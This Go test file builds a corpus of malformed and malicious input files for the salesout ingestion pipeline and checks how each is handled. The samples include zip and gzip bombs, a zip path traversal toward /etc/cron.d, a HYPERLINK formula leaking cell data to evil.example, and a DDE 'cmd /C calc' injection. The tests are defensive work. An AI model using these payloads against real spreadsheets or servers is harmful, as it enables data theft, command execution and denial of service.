package main

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"flag"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"sort"
	"strings"
	"testing"
	"time"
)

// The hostile corpus: files a distributor's broken export, a careless concatenation or a
// malicious sender produce, each with the outcome salesout gives it asserted (status in
// the files ledger, lines loaded and quarantined, and the reason). The files are
// written by hostileCorpus, deterministically, into testdata/hostile/drop (-hostile.update);
// the test checks that the committed files are the generator's.
var updateHostile = flag.Bool("hostile.update", false, "rewrite testdata/hostile/drop from the generator")

const hostileHeader = "date,invoice,account,company,sku,qty,amount\n"

// hostileLine is a valid line of the hostile CSV feed.
func hostileLine(i int) string {
	return fmt.Sprintf("2026-02-%02d,HX-%d,R%02d,Reseller %02d,SKU-%d,%d,%d.50\n", 1+i%28, i, i%7, i%7, i%3, 1+i%5, 10+i)
}

func hostileLines(from, n int) string {
	var b strings.Builder
	for i := from; i < from+n; i++ {
		b.WriteString(hostileLine(i))
	}
	return b.String()
}

func gz(b []byte) []byte {
	var out bytes.Buffer
	w, _ := gzip.NewWriterLevel(&out, gzip.BestCompression)
	w.ModTime = time.Time{}
	w.Write(b)
	w.Close()
	return out.Bytes()
}

// gzZeros is a gzip stream of n zero bytes.
func gzZeros(n int) []byte {
	var out bytes.Buffer
	w, _ := gzip.NewWriterLevel(&out, gzip.BestCompression)
	zero := make([]byte, 1<<20)
	for left := n; left > 0; left -= len(zero) {
		w.Write(zero[:min(len(zero), left)])
	}
	w.Close()
	return out.Bytes()
}

// zipOf builds a zip archive of the entries in order (name, body pairs), with a fixed
// modification time so that the bytes are reproducible.
func zipOf(entries ...string) []byte {
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	for i := 0; i+1 < len(entries); i += 2 {
		f, _ := w.CreateHeader(&zip.FileHeader{Name: entries[i], Method: zip.Deflate, Modified: time.Date(2026, 2, 1, 0, 0, 0, 0, time.UTC)})
		f.Write([]byte(entries[i+1]))
	}
	w.Close()
	return out.Bytes()
}

// zipBomb is an archive whose one entry inflates to n zero bytes; declared, when
// nonzero, replaces the uncompressed size its header states (a lying header).
func zipBomb(name string, n int64, declared uint64) []byte {
	var comp bytes.Buffer
	fw, _ := flate.NewWriter(&comp, flate.BestCompression)
	zero := make([]byte, 1<<20)
	crc := crc32.NewIEEE()
	for left := n; left > 0; left -= int64(len(zero)) {
		chunk := zero[:min(int64(len(zero)), left)]
		fw.Write(chunk)
		crc.Write(chunk)
	}
	fw.Close()
	size := uint64(n)
	if declared > 0 {
		size = declared
	}
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	f, _ := w.CreateRaw(&zip.FileHeader{Name: name, Method: zip.Deflate, Modified: time.Date(2026, 2, 1, 0, 0, 0, 0, time.UTC),
		CRC32: crc.Sum32(), CompressedSize64: uint64(comp.Len()), UncompressedSize64: size})
	f.Write(comp.Bytes())
	w.Close()
	return out.Bytes()
}

// xlsxWith returns the xlsx base with extra zip entries added (name, body pairs) and
// the entries named in replace rewritten.
func xlsxWith(t *testing.T, base []byte, replace map[string]func(string) string, extra ...string) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(base), int64(len(base)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(rc)
		rc.Close()
		if fn := replace[f.Name]; fn != nil {
			b = []byte(fn(string(b)))
		}
		fw, _ := w.CreateHeader(&zip.FileHeader{Name: f.Name, Method: zip.Deflate, Modified: time.Date(2026, 2, 1, 0, 0, 0, 0, time.UTC)})
		fw.Write(b)
	}
	for i := 0; i+1 < len(extra); i += 2 {
		fw, _ := w.CreateHeader(&zip.FileHeader{Name: extra[i], Method: zip.Deflate, Modified: time.Date(2026, 2, 1, 0, 0, 0, 0, time.UTC)})
		fw.Write([]byte(extra[i+1]))
	}
	w.Close()
	return out.Bytes()
}

// hostileCorpus returns the corpus: file name -> content.
func hostileCorpus(t *testing.T) map[string][]byte {
	t.Helper()
	_, file, _, _ := runtime.Caller(0)
	formats := filepath.Join(filepath.Dir(file), "..", "..", "testdata", "e2e_formats", "files")
	read := func(name string) []byte {
		b, err := os.ReadFile(filepath.Join(formats, name))
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	x12, edi, xlsx := read("4010_basic.x12"), read("unoc_latin1.edi"), read("ventes.xlsx")
	good := hostileHeader + hostileLines(0, 3)
	longLine := "2026-02-03,HX-LONG,R01," + strings.Repeat("Long name ", 1<<20) + ",SKU-1,1,10.00"
	c := map[string][]byte{
		"H_01_good.csv":              []byte(good),
		"H_02_empty.csv":             nil,
		"H_03_header_only.csv":       []byte(hostileHeader),
		"H_04_truncated.csv.gz":      gz([]byte(hostileHeader + hostileLines(100, 400)))[:700],
		"H_05_zip_bomb.zip":          zipBomb("bomb.csv", 64<<20, 0),
		"H_06_zip_bomb_declared.zip": zipBomb("bomb.csv", 1<<20, 16<<30),
		"H_07_gzip_bomb.csv.gz":      gzZeros(64 << 20),
		"H_08_zip_two_entries.zip":   zipOf("a.csv", hostileHeader+hostileLines(200, 2), "b.csv", hostileHeader+hostileLines(210, 2)),
		"H_09_zip_traversal.zip":     zipOf("../../../../etc/cron.d/H_09.csv", hostileHeader+hostileLines(220, 2)),
		"H_10_latin1.csv": []byte(hostileHeader + "2026-02-04,HX-300,R01,Soci\xe9t\xe9 G\xe9n\xe9rale,SKU-1,1,10.00\n" +
			"2026-02-05,HX-301,R02,Caf\xe9 du Nord,SKU-2,2,20.00\n"),
		"H_11_mixed_delimiters.csv": []byte(hostileHeader + hostileLines(310, 2) + "2026-02-06;HX-320;R03;Reseller 03;SKU-0;1;5.00\n" + hostileLines(330, 1)),
		"H_12_long_line.csv.gz":     gz([]byte(hostileHeader + hostileLines(340, 1) + longLine + "\n" + hostileLines(350, 1))),
		"H_13_nul_byte.csv":         []byte(hostileHeader + hostileLines(360, 2) + "2026-02-07,HX-370,R04,Reseller\x0004,SKU-1,1,5.00\n" + hostileLines(380, 2)),
		"H_14_one_latin1_byte.csv":  []byte(hostileHeader + hostileLines(390, 2) + "2026-02-08,HX-395,R05,Caf\xe9 Sud,SKU-1,1,5.00\n" + hostileLines(400, 2)),
		"H_15_bom_start.csv":        []byte("\xef\xbb\xbf" + hostileHeader + hostileLines(410, 2)),
		"H_16_bom_middle.csv":       []byte(hostileHeader + hostileLines(420, 2) + "\xef\xbb\xbf" + hostileHeader + hostileLines(430, 2)),
		"H_17_header_repeated.csv":  []byte(hostileHeader + hostileLines(440, 2) + hostileHeader + hostileLines(450, 2)),
		"H_18_duplicated_header.csv": []byte("date,invoice,account,company,sku,qty,amount,qty\n" +
			"2026-02-09,HX-460,R01,Reseller 01,SKU-1,1,10.00,2\n"),
		"H_19_year_9999.csv": []byte(hostileHeader + hostileLines(470, 1) + "9999-12-31,HX-471,R01,Reseller 01,SKU-1,1,10.00\n"),
		"H_20_year_0001.csv": []byte(hostileHeader + hostileLines(480, 1) + "0001-01-01,HX-481,R01,Reseller 01,SKU-1,1,10.00\n"),
		"H_21_amount_30_digits.csv": []byte(hostileHeader + hostileLines(490, 1) +
			"2026-02-10,HX-491,R01,Reseller 01,SKU-1,1,123456789012345678901234567890\n"),
		"H_22_formulas.csv": []byte(hostileHeader +
			"2026-02-11,HX-500,F01,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",SKU-1,1,10.00\n" +
			"2026-02-11,HX-501,F02,@SUM(1+1)*cmd|' /C calc'!A0,SKU-1,1,10.00\n" +
			"2026-02-11,HX-502,F03,+33 1 23 45 67 89,SKU-1,1,10.00\n" +
			"2026-02-11,HX-503,F04,-2+3,SKU-1,1,10.00\n"),
		"H_23_unterminated_quote.csv": []byte(hostileHeader + hostileLines(510, 1) + "2026-02-12,HX-511,R01,\"Reseller 01,SKU-1,1,10.00\n" + hostileLines(520, 2)),
		"H_24_quoted_newline.csv":     []byte(hostileHeader + "2026-02-13,HX-530,R01,\"Reseller\nwith a newline\",SKU-1,1,10.00\n" + hostileLines(531, 1)),
		"H_25_binary.csv":             bytes.Repeat([]byte{0x00, 0xff, 0x13, 0x37, 0x8b, 0x1f}, 4000),
		"H_26_utf16.csv":              utf16le(hostileHeader + hostileLines(540, 2)),
		"H_27_totals_row.csv":         []byte(hostileHeader + hostileLines(550, 2) + "TOTAL,,,,,3,21.00\n"),
		"H_28_short_and_long_rows.csv": []byte(hostileHeader + hostileLines(560, 1) + "2026-02-14,HX-561,R01\n" +
			"2026-02-14,HX-562,R01,Reseller 01,SKU-1,1,10.00,extra,fields\n" + hostileLines(570, 1)),
		// EDI and Excel, from the valid files of testdata/e2e_formats.
		"E_01_x12_wrong_se_count.x12": []byte(strings.Replace(string(x12), "SE*36*0001", "SE*12*0001", 1)),
		"E_02_x12_truncated.x12":      x12[:len(x12)/2],
		"E_03_x12_wrong_ge_count.x12": []byte(strings.Replace(string(x12), "GE*1*101", "GE*3*101", 1)),
		"E_04_edifact_wrong_unt.edi":  []byte(strings.Replace(string(edi), "UNT+15+1", "UNT+4+1", 1)),
		"E_05_edifact_truncated.edi":  edi[:len(edi)*2/3],
		"E_06_x12_no_segments.x12":    []byte("ISA*00*"),
		"X_01_macro.xlsx":             xlsxWith(t, xlsx, nil, "xl/vbaProject.bin", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 not really a VBA project"),
		"X_02_external_link.xlsx":     xlsxWith(t, xlsx, nil, "xl/externalLinks/externalLink1.xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>`, "xl/externalLinks/_rels/externalLink1.xml.rels", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///C:/secret/prices.xlsx" TargetMode="External"/></Relationships>`),
		"X_03_not_a_zip.xlsx":         []byte("this is not a spreadsheet\n"),
		"X_04_truncated.xlsx":         xlsx[:len(xlsx)/2],
	}
	return c
}

func utf16le(s string) []byte {
	out := []byte{0xff, 0xfe}
	for _, r := range s {
		out = append(out, byte(r), byte(r>>8))
	}
	return out
}

// hostileDir is testdata/hostile.
func hostileDir() string {
	_, file, _, _ := runtime.Caller(0)
	return filepath.Join(filepath.Dir(file), "..", "..", "testdata", "hostile")
}

// TestHostileCorpusFiles checks that testdata/hostile/drop holds the generator's files,
// or rewrites it with -hostile.update.
func TestHostileCorpusFiles(t *testing.T) {
	corpus := hostileCorpus(t)
	drop := filepath.Join(hostileDir(), "drop")
	if *updateHostile {
		os.RemoveAll(drop)
		if err := os.MkdirAll(drop, 0o755); err != nil {
			t.Fatal(err)
		}
		for name, b := range corpus {
			if err := os.WriteFile(filepath.Join(drop, name), b, 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	entries, err := os.ReadDir(drop)
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, e := range entries {
		seen[e.Name()] = true
		want, ok := corpus[e.Name()]
		if !ok {
			t.Errorf("%s is not the generator's: remove it or run with -hostile.update", e.Name())
			continue
		}
		got, err := os.ReadFile(filepath.Join(drop, e.Name()))
		if err != nil || !bytes.Equal(got, want) {
			t.Errorf("%s differs from the generator's (run with -hostile.update): %v", e.Name(), err)
		}
	}
	for name := range corpus {
		if !seen[name] {
			t.Errorf("%s is missing from %s (run with -hostile.update)", name, drop)
		}
	}
	if len(corpus) < 30 {
		t.Errorf("the corpus has %d files, want at least 30", len(corpus))
	}
}

// hostileNames returns the corpus's file names, sorted.
func hostileNames(c map[string][]byte) []string {
	var names []string
	for n := range c {
		names = append(names, n)
	}
	sort.Strings(names)
	return names
}

// hostileOutcome is what salesout does with one file of the corpus.
type hostileOutcome struct {
	status              string // in the files ledger
	loaded, quarantined int64
	reason              string // found in the file's reason or one of its quarantine reasons
	// gap, when set, says what a user would expect instead of today's outcome (which is
	// the one asserted): see the issue's "three outcomes today are not what a user
	// expects", and the report of the reliability work.
	gap string
}

var hostileOutcomes = map[string]hostileOutcome{
	"H_01_good.csv":              {"loaded", 3, 0, "", ""},
	"H_02_empty.csv":             {"failed", 0, 0, "file has 0 lines, header expected on line 1", ""},
	"H_03_header_only.csv":       {"loaded", 0, 0, "", ""},
	"H_04_truncated.csv.gz":      {"failed", 0, 0, "cannot read the header: unexpected EOF", ""},
	"H_05_zip_bomb.zip":          {"failed", 0, 0, "file looks binary, not text: NUL byte", ""},
	"H_06_zip_bomb_declared.zip": {"failed", 0, 0, "cannot open: open zip H_06_zip_bomb_declared.zip: bomb.csv is 17179869184 bytes once decompressed, over the 8 GiB limit", ""},
	"H_07_gzip_bomb.csv.gz":      {"failed", 0, 0, "file looks binary, not text: NUL byte", ""},
	"H_08_zip_two_entries.zip":   {"failed", 0, 0, `cannot open: open zip H_08_zip_two_entries.zip: 2 data files in the archive, want one: "a.csv", "b.csv"`, ""},
	// The entry's name is never a path: the landing copy is named by its content.
	"H_09_zip_traversal.zip": {"loaded", 2, 0, "", ""},
	// Most of it is not UTF-8: the whole file, with the encoding named.
	"H_10_latin1.csv":           {"failed", 0, 0, "file looks binary, not text: 2 of the 3 lines of its first 64 KiB are not valid UTF-8 (is the file's encoding right?)", ""},
	"H_11_mixed_delimiters.csv": {"loaded", 3, 1, `line has 1 field, the header has 7 (its delimiter looks like ';', not the feed's ',')`, ""},
	"H_12_long_line.csv.gz":     {"loaded", 2, 1, "line longer than 1 MiB", ""},
	"H_13_nul_byte.csv":         {"loaded", 4, 1, "NUL byte in the text (is the file damaged?)", ""},
	"H_14_one_latin1_byte.csv":  {"loaded", 4, 1, "invalid UTF-8 text (is the file's encoding right?)", ""},
	"H_15_bom_start.csv":        {"loaded", 2, 0, "", ""},
	// Concatenated exports: the second's byte-order mark and header are skipped.
	"H_16_bom_middle.csv":        {"loaded", 4, 0, "", ""},
	"H_17_header_repeated.csv":   {"loaded", 4, 0, "", ""},
	"H_18_duplicated_header.csv": {"failed", 0, 0, `header on line 1 repeats a mapped column: "qty" (quantity) is both column 6 and column 8`, ""},
	// Outside the plausible window of invoice dates (load.dates: 2000-01-01..as_of + 1 year).
	"H_19_year_9999.csv":        {"loaded", 1, 1, `invoice_date "9999-12-31" is outside the plausible window 2000-01-01..2027-03-31 (load.dates)`, ""},
	"H_20_year_0001.csv":        {"loaded", 1, 1, `invoice_date "0001-01-01" is outside the plausible window 2000-01-01..2027-03-31 (load.dates)`, ""},
	"H_21_amount_30_digits.csv": {"loaded", 1, 1, `amount "123456789012345678901234567890" is not a number`, ""},
	// Loaded as text; the review export neutralises them (asserted below).
	"H_22_formulas.csv":           {"loaded", 4, 0, "", ""},
	"H_23_unterminated_quote.csv": {"loaded", 3, 1, "unterminated quote starting on line 3", ""},
	"H_24_quoted_newline.csv":     {"loaded", 2, 0, "", ""},
	"H_25_binary.csv":             {"failed", 0, 0, "file looks binary, not text: NUL byte", ""},
	"H_26_utf16.csv":              {"failed", 0, 0, "it is UTF-16 text (byte-order mark); export it as UTF-8 or Windows-1252", ""},
	"H_27_totals_row.csv":         {"loaded", 2, 1, `totals row (not a sale): invoice_date "TOTAL"`, ""},
	// Reasons in the order of the lines: asserted below.
	"H_28_short_and_long_rows.csv": {"loaded", 2, 2, "line has 3 fields, the header has 7", ""},
	"E_01_x12_wrong_se_count.x12":  {"failed", 0, 3, `transaction set 0001: SE01 says "12" segments, the set has 36`, ""},
	"E_02_x12_truncated.x12":       {"failed", 0, 1, "transaction set 0001 (segment 3): no SE trailer before the end of the file", ""},
	"E_03_x12_wrong_ge_count.x12":  {"failed", 0, 3, `functional group 101: GE01 says "3" transaction sets, the group has 1`, ""},
	"E_04_edifact_wrong_unt.edi":   {"failed", 0, 2, `message 1: UNT01 says "4" segments, the message has 15`, ""},
	"E_05_edifact_truncated.edi":   {"failed", 0, 1, "no UNT trailer before the end of the file", ""},
	"E_06_x12_no_segments.x12":     {"failed", 0, 0, "not an X12 file: malformed ISA interchange header", ""},
	// The macro and the external link are never run nor followed: the cells are read.
	"X_01_macro.xlsx":         {"loaded", 3, 1, `totals row (not a sale): invoice_date "Total"`, ""},
	"X_02_external_link.xlsx": {"loaded", 3, 1, `totals row (not a sale): invoice_date "Total"`, ""},
	"X_03_not_a_zip.xlsx":     {"failed", 0, 0, "not an xlsx workbook: zip: not a valid zip file", ""},
	"X_04_truncated.xlsx":     {"failed", 0, 0, "not an xlsx workbook: zip: not a valid zip file", ""},
}

// TestHostileCorpus runs the pipeline on the corpus and asserts each file's outcome,
// that nothing else is lost (the good lines of every loaded file are in sales_out), that
// the run stays fast and small against the bombs, and that no CSV or XLSX salesout
// writes holds a live formula.
func TestHostileCorpus(t *testing.T) {
	corpus := hostileCorpus(t)
	for _, name := range hostileNames(corpus) {
		if _, ok := hostileOutcomes[name]; !ok {
			t.Errorf("%s has no asserted outcome", name)
		}
	}
	dir := copyTestdata(t, "hostile")
	start := time.Now()
	mustRun(t, dir, "run", "--config", "config.yaml", "--as-of", "2026-03-31")
	if took := time.Since(start); took > 60*time.Second {
		t.Errorf("the run took %v: a bomb was expanded?", took)
	}
	db := openPublished(t, dir)
	got := map[string]hostileOutcome{}
	for _, r := range rows(t, db, `SELECT f.name, f.status, f.lines_loaded, f.lines_quarantined,
			coalesce(f.reason, '') || ' | ' || coalesce(string_agg(q.reason, ' | '), '')
		FROM files f LEFT JOIN quarantine q USING (file_id)
		GROUP BY f.name, f.status, f.lines_loaded, f.lines_quarantined, f.reason ORDER BY 1`) {
		p := strings.SplitN(r, "|", 5)
		var o hostileOutcome
		o.status, o.reason = p[1], p[4]
		fmt.Sscan(p[2], &o.loaded)
		fmt.Sscan(p[3], &o.quarantined)
		got[p[0]] = o
	}
	var gaps []string
	for _, name := range hostileNames(corpus) {
		want, g := hostileOutcomes[name], got[name]
		if g.status != want.status || g.loaded != want.loaded || g.quarantined != want.quarantined || !strings.Contains(g.reason, want.reason) {
			t.Errorf("%s: %s, %d loaded, %d quarantined, reasons %q\n  want %s, %d, %d, a reason with %q",
				name, g.status, g.loaded, g.quarantined, g.reason, want.status, want.loaded, want.quarantined, want.reason)
		}
		// A reason names the file as received, never by its landing copy's path.
		if strings.Contains(g.reason, dir) || strings.Contains(g.reason, "landing") {
			t.Errorf("%s: a reason names the landing copy: %q", name, g.reason)
		}
		if want.gap != "" {
			gaps = append(gaps, name+": "+want.gap)
		}
	}
	t.Logf("%d files, %d outcomes with a known gap:\n  %s", len(corpus), len(gaps), strings.Join(gaps, "\n  "))

	expectRows(t, db, `SELECT string_agg(q.reason, ' | ' ORDER BY q.line_no) FROM quarantine q JOIN files f USING (file_id) WHERE f.name = 'H_28_short_and_long_rows.csv'`,
		"line has 3 fields, the header has 7 | line has 9 fields, the header has 7")

	// Nothing else lost: the lines loaded are the ledger's, and the good file is whole.
	expectRows(t, db, `SELECT (SELECT count(*) FROM sales_out) = (SELECT sum(lines_loaded) FROM files)`, "true")
	expectRows(t, db, `SELECT count(*), sum(amount) FROM sales_out s JOIN files f USING (file_id) WHERE f.name = 'H_01_good.csv'`, "3|34.5000")
	// The zip's entry name led nowhere: nothing was written outside the landing folder.
	filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err == nil && strings.HasSuffix(p, "H_09.csv") {
			t.Errorf("the zip's entry name became a path: %s", p)
		}
		return nil
	})

	// Formulas: loaded as the distributor wrote them, never live in a spreadsheet.
	expectRows(t, db, `SELECT reseller_name FROM sales_out WHERE invoice_number = 'HX-500'`, `=HYPERLINK("http://evil.example/?"&A1,"click")`)
	mustRun(t, dir, "review", "export", "--config", "config.yaml", "--format", "csv", "--out", "review.csv")
	mustRun(t, dir, "review", "export", "--config", "config.yaml", "--format", "xlsx", "--out", "review.xlsx")
	b, err := os.ReadFile(filepath.Join(dir, "review.csv"))
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{`"'=HYPERLINK(`, `,'@SUM(1+1)`, `,'+33 1 23`, `,'-2+3,`} {
		if !strings.Contains(string(b), name) {
			t.Errorf("review.csv lacks %s (a formula neutralised by a leading ')", name)
		}
	}
	for _, live := range []string{`,"=HYPERLINK(`, `,=HYPERLINK(`, `,@SUM(`} {
		if strings.Contains(string(b), live) {
			t.Errorf("review.csv holds a live formula: %s", live)
		}
	}
	// salesout query --format csv: the same names, neutralised; numbers untouched.
	q := mustRun(t, dir, "query", "--config", "config.yaml", "--format", "csv",
		`SELECT reseller_name, -2 AS n FROM sales_out WHERE invoice_number = 'HX-500'`)
	if want := "reseller_name,n\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",-2\n"; q.stdout != want {
		t.Errorf("query --format csv:\n%s\nwant\n%s", q.stdout, want)
	}
	zr, err := zip.OpenReader(filepath.Join(dir, "review.xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	var sheets strings.Builder
	for _, f := range zr.File {
		if strings.HasPrefix(f.Name, "xl/worksheets/") || f.Name == "xl/sharedStrings.xml" {
			rc, _ := f.Open()
			b, _ := io.ReadAll(rc)
			rc.Close()
			sheets.Write(b)
		}
	}
	if s := sheets.String(); strings.Contains(s, "<f>") || strings.Contains(s, "<f ") {
		t.Errorf("review.xlsx holds a formula cell")
	} else if !strings.Contains(s, "&#39;=HYPERLINK(") || !strings.Contains(s, "&#39;@SUM(1+1)") {
		t.Errorf("review.xlsx lacks the neutralised names")
	}
}
